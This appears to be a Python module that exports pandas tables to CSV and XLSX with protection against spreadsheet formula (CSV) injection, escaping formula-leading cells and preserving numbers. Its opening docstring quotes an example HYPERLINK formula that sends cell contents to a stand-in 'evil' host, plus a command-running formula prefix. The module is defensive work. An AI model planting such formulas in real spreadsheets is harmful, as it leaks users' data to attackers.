"""Tables out to spreadsheets without formula injection.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil/?"&A1,"click")``
leaks data; ``=cmd|...`` used to run programs). ``safe_cells`` puts an apostrophe before such
text so it shows as text (OWASP "CSV injection"). Numbers stay numbers: ``-5`` in a numeric
column is a number, not text, and is written as one.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
from collections.abc import Iterable
from pathlib import Path
from typing import TextIO

import numpy as np
import pandas as pd

from aliexp_lib.own_marks import AUTHOR, xlsx_author
from aliexp_lib.safe_write import write_file

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


#: A plain negative number written as text (``-5``, ``-12.50``): a spreadsheet reads it as that number, not a formula.
_PLAIN_NEGATIVE = re.compile(r"-\d+(?:\.\d+)?")


def _inert(value: object) -> object:
    """``value`` with an apostrophe before it if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NEGATIVE.fullmatch(value):
        return "'" + value
    return value


def safe_cells(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose text cells cannot be read as formulas; other cells are unchanged.

    Text starting with one of ``FORMULA_STARTS`` gets an apostrophe in front (OWASP "CSV
    injection"), except a plain negative number (``-5``, ``-12.50``), which a spreadsheet reads as
    that number. Numeric, boolean and datetime columns are left alone; column names are made safe too.

    Parameters
    ----------
    table : pandas.DataFrame
        Any table; it is not changed.

    Returns
    -------
    pandas.DataFrame
        The safe copy, same index; text columns become ``object`` dtype.

    Examples
    --------
    >>> import pandas as pd
    >>> table = pd.DataFrame({"title": ["=1+1", "-5", "plain"], "refund_minor": [-500, 0, 1200]})
    >>> safe_cells(table)["title"].tolist()
    ["'=1+1", '-5', 'plain']
    >>> safe_cells(table)["refund_minor"].tolist()
    [-500, 0, 1200]
    """
    out = table.copy()
    for column in out.columns:
        values = out[column]
        if (
            pd.api.types.is_numeric_dtype(values)
            or pd.api.types.is_bool_dtype(values)
            or pd.api.types.is_datetime64_any_dtype(values)
        ):
            continue
        out[column] = pd.Series([_inert(v) for v in values.tolist()], index=out.index, dtype=object)
    out.columns = [_inert(str(c)) for c in out.columns]
    return out


def _for_output(table: pd.DataFrame) -> pd.DataFrame:
    """``safe_cells`` of ``table`` with datetime columns as ``YYYY-MM-DD`` text."""
    table = table.copy()
    for column in table.columns:
        if pd.api.types.is_datetime64_any_dtype(table[column]):
            table[column] = table[column].dt.strftime("%Y-%m-%d")
    return safe_cells(table)


def to_csv(
    table: pd.DataFrame,
    target: str | Path | TextIO,
    overwrite: bool = False,
    inputs: Iterable[str | os.PathLike] = (),
) -> None:
    """Write ``table`` as UTF-8 CSV (dates as ``YYYY-MM-DD``) to a path or an open text stream.

    Cells are made safe first (``safe_cells``); no index column; lines end in ``\\n``. A table
    with a carriage return in a text cell has every text field quoted, so a reader does not split
    the record there. A path is written by ``safe_write.write_file``: in one step, and over an
    existing file only if we wrote it (or with ``overwrite``).

    Parameters
    ----------
    table : pandas.DataFrame
        The table to write; datetime columns are written as dates (the time of day is dropped).
    target : str, path-like or text stream
        A file path (replaced whole), or an open text stream written at its position.
    overwrite : bool, default False
        Replace a file at the path that we did not write (``--overwrite``).
    inputs : iterable of path-like
        Files the command read: never written over.

    Returns
    -------
    None
        The file or stream is written.

    Examples
    --------
    >>> import io
    >>> import pandas as pd
    >>> out = io.StringIO()
    >>> to_csv(pd.DataFrame({"due": pd.to_datetime(["2026-03-20"]), "note": ["=1+1"]}), out)
    >>> print(out.getvalue(), end="")
    due,note
    2026-03-20,'=1+1
    """
    safe = _for_output(table)
    # The csv module quotes a field holding "\n" but not one holding only "\r" when lines end in "\n";
    # a reader would then split the record there. Such tables quote every text field.
    quoting = (
        csv.QUOTE_NONNUMERIC
        if any(
            "\r" in v for c in safe.columns if safe[c].dtype == object for v in safe[c].tolist() if isinstance(v, str)
        )
        else csv.QUOTE_MINIMAL
    )
    if isinstance(target, (str, os.PathLike)):
        text = io.StringIO()
        safe.to_csv(text, index=False, lineterminator="\n", quoting=quoting)
        write_file(target, text.getvalue().encode("utf-8"), overwrite=overwrite, inputs=inputs)
    else:
        safe.to_csv(target, index=False, lineterminator="\n", quoting=quoting)


def to_xlsx(
    table: pd.DataFrame,
    path: str | Path,
    sheet: str = "orders",
    overwrite: bool = False,
    inputs: Iterable[str | os.PathLike] = (),
) -> Path:
    """Write ``table`` to an XLSX workbook: text as text cells (never formulas), numbers as numbers.

    Cells are made safe first (``safe_cells``); missing values (NA, NaT, NaN) become empty cells;
    the header is the first row. The workbook's creator and last editor are ``own_marks.AUTHOR``,
    so a later run knows it may replace it (``ours_xlsx``); it is written by ``safe_write.write_file``.

    Parameters
    ----------
    table : pandas.DataFrame
        The table to write, without its index.
    path : str or path-like
        The workbook to write (replaced whole).
    sheet : str, default "orders"
        The name of the one worksheet.
    overwrite : bool, default False
        Replace a file at the path that we did not write (``--overwrite``).
    inputs : iterable of path-like
        Files the command read: never written over.

    Returns
    -------
    pathlib.Path
        ``path``.

    Examples
    --------
    >>> import tempfile
    >>> import pandas as pd
    >>> from openpyxl import load_workbook
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     written = to_xlsx(pd.DataFrame({"title": ["=1+1"], "refund_minor": [-500]}), f"{folder}/out.xlsx")
    ...     sheet = load_workbook(written).active
    ...     [(cell.value, cell.data_type) for cell in sheet[2]]
    [("'=1+1", 's'), (-500, 'n')]
    """
    from openpyxl import Workbook

    path = Path(path)
    safe = safe_cells(table)
    book = Workbook()
    ws = book.active
    ws.title = sheet
    ws.append([str(c) for c in safe.columns])
    for row in safe.itertuples(index=False, name=None):
        ws.append([_cell(v) for v in row])
    for cells in ws.iter_rows(min_row=1):
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl would otherwise turn text starting with "=" into a formula
    book.properties.creator = book.properties.lastModifiedBy = AUTHOR
    data = io.BytesIO()
    book.save(data)
    return write_file(path, data.getvalue(), ours=ours_xlsx, overwrite=overwrite, inputs=inputs)


def ours_xlsx(path: str | Path) -> bool:
    """Whether the workbook at ``path`` was written by ``to_xlsx`` and saved by nobody since.

    Its ``docProps/core.xml`` names ``own_marks.AUTHOR`` as creator and as last editor (a
    spreadsheet program that saves it puts the user's name as last editor).

    Examples
    --------
    >>> import tempfile
    >>> import pandas as pd
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     ours_xlsx(to_xlsx(pd.DataFrame({"a": [1]}), f"{folder}/out.xlsx"))
    True
    """
    return xlsx_author(path) == (AUTHOR, AUTHOR)


def _cell(value: object) -> object:
    """``value`` as openpyxl takes it: None for missing, Python scalars for NumPy/pandas ones, else text."""
    if value is None or value is pd.NA or value is pd.NaT or (isinstance(value, float) and np.isnan(value)):
        return None
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if isinstance(value, np.generic):
        return value.item()
    if isinstance(value, (str, int, float, bool, dt.date, dt.datetime)):
        return value
    return str(value)


__all__ = ["FORMULA_STARTS", "ours_xlsx", "safe_cells", "to_csv", "to_xlsx"]
